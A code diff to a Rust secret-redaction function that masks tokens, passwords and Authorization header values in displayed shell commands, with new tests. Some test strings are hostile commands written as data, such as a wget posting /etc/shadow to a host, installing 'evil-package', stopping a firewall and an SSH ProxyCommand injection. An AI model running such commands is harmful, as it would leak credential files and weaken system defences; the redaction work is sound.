@@ -58,8 +58,8 @@ const SECRET_NAMES: &[&str] = &[
     "token",
 ];
 
-/// Words in front of a secret.
-const SCHEMES: &[&str] = &["basic", "bearer"];
+/// Headers whose value is a secret, without `-`.
+const HEADERS: &[&str] = &["authorization", "proxyauthorization"];
 
 /// `text` as one line.
 pub fn shown(text: &str) -> String {
@@ -139,21 +139,44 @@ fn secret_at(letters: &[char], start: usize) -> Option<(usize, usize)> {
         .filter(|letter| letter.is_alphanumeric())
         .flat_map(|letter| letter.to_lowercase())
         .collect();
-    if SCHEMES.contains(&name.as_str()) {
-        return value(letters, spaces(letters, end)?);
-    }
-    if !SECRET_NAMES.iter().any(|known| name.ends_with(known)) {
+    let header = HEADERS.contains(&name.as_str());
+    if !header && !SECRET_NAMES.iter().any(|known| name.ends_with(known)) {
         return None;
     }
-    let is_option = start > 0 && letters[start - 1] == '-' || letters[start] == '-';
-    let at = match letters.get(end)? {
-        '=' => end + 1,
-        ':' => run(letters, end + 1, |letter| letter == ' '),
-        ' ' if is_option => spaces(letters, end)?,
-        _ => return None,
-    };
-    let quoted = matches!(letters.get(at), Some('"' | '\''));
-    value(letters, at + usize::from(quoted))
+    let before = start.checked_sub(1).map(|at| letters[at]);
+    let is_option = before == Some('-') || letters[start] == '-';
+    let past_spaces = |from| run(letters, from, |letter| letter == ' ');
+    match letters.get(end)? {
+        '=' => value(letters, past_quote(letters, end + 1)),
+        // What stands behind a space is another word of the command, unless a quote holds both together.
+        ':' if before.is_some_and(is_quote) => {
+            let at = past_spaces(end + 1);
+            value(letters, if header { past_scheme(letters, at) } else { at })
+        }
+        ':' => value(letters, past_quote(letters, end + 1)),
+        ' ' if is_option => next_word(letters, past_spaces(end)),
+        _ => None,
+    }
+}
+
+/// The secret that is the word at `start`, behind an option that may as well take none: the word counts only
+/// where it is no option, path, address or assignment.
+fn next_word(letters: &[char], start: usize) -> Option<(usize, usize)> {
+    let (from, to) = value(letters, past_quote(letters, start))?;
+    let word = &letters[from..to];
+    let is_other = word[0] == '-' || word.iter().any(|letter| matches!(letter, '/' | '='));
+    (!is_other).then_some((from, to))
+}
+
+/// Where the secret of `<scheme> <secret>` begins; `start` where it stands alone.
+fn past_scheme(letters: &[char], start: usize) -> usize {
+    let end = run(letters, start, is_word);
+    let at = run(letters, end, |letter| letter == ' ');
+    if at > end { at } else { start }
+}
+
+fn past_quote(letters: &[char], at: usize) -> usize {
+    at + usize::from(letters.get(at).copied().is_some_and(is_quote))
 }
 
 /// The password in `user:password@host`.
@@ -172,15 +195,14 @@ fn value(letters: &[char], from: usize) -> Option<(usize, usize)> {
     (to - from >= MIN_SECRET && !is_path).then_some((from, to))
 }
 
-fn spaces(letters: &[char], from: usize) -> Option<usize> {
-    let to = run(letters, from, |letter| letter == ' ');
-    (to > from).then_some(to)
-}
-
 /// Where the letters from `from` on that are `wanted` end.
 fn run(letters: &[char], from: usize, wanted: impl Fn(char) -> bool) -> usize {
     let rest = letters.get(from..).unwrap_or_default();
     from + rest.iter().take_while(|letter| wanted(**letter)).count()
+}
+
+fn is_quote(letter: char) -> bool {
+    matches!(letter, '"' | '\'')
 }
 
 fn is_word(letter: char) -> bool {
@@ -253,9 +275,44 @@ mod tests {
                 "cat risk-assessment.md task-12345678",
             ),
             ("curl http://host:8080/a@b", "curl http://host:8080/a@b"),
+            (
+                "curl --header \"Proxy-Authorization: basic YWJjZGVmZ2g=\" u",
+                "curl --header \"Proxy-Authorization: basic ***\" u",
+            ),
+            (
+                "curl -H 'Authorization: Negotiate abcdefgh1' u",
+                "curl -H 'Authorization: Negotiate ***' u",
+            ),
+            ("x authorization:abcdefgh1", "x authorization:***"),
+            (
+                "curl -H 'X-Api-Key: abcdefgh1' u",
+                "curl -H 'X-Api-Key: ***' u",
+            ),
+            ("tool --password 'abcdefgh1' x", "tool --password '***' x"),
+            // A known start tells a token whatever stands in front of it.
+            ("tool --token eyJabc/de+f==", "tool --token ***"),
         ];
         for (text, expected) in cases {
             assert_eq!(shown(text), expected, "{text}");
+        }
+    }
+
+    /// What a program would do with a word is not hidden because of the word in front of it.
+    #[test]
+    fn words_that_may_be_no_secrets_are_shown() {
+        for text in [
+            "pip install basic evil-package==6.6.6",
+            "apt-get install -y bearer openssh-server",
+            "systemctl stop basic firewalld.service",
+            "tool authorization: bearer openssh-server",
+            "tool token: openssh-server",
+            "wget --token --post-file=/etc/shadow https://h",
+            "tool --token -oProxyCommand",
+            "tool --token file=somewhere",
+            "tool --token some/program",
+            "tool --token 'some/program'",
+        ] {
+            assert_eq!(shown(text), text);
         }
     }
 
@@ -269,7 +326,7 @@ mod tests {
     proptest! {
         #[test]
         fn what_a_shell_acts_on_is_always_shown(
-            text in "(--token |PASSWORD=|sk-|Bearer |://a:|[a-z0-9/.;|&$`<>()'\"\\\\ \\n\u{202e}]){0,40}"
+            text in "(--token |PASSWORD=|sk-|Authorization: Bearer |://a:|[a-z0-9/.;|&$`<>()'\"\\\\ \\n\u{202e}]){0,40}"
         ) {
             let out = shown(&text);
             for sign in ";|&$`<>()'\"@".chars() {
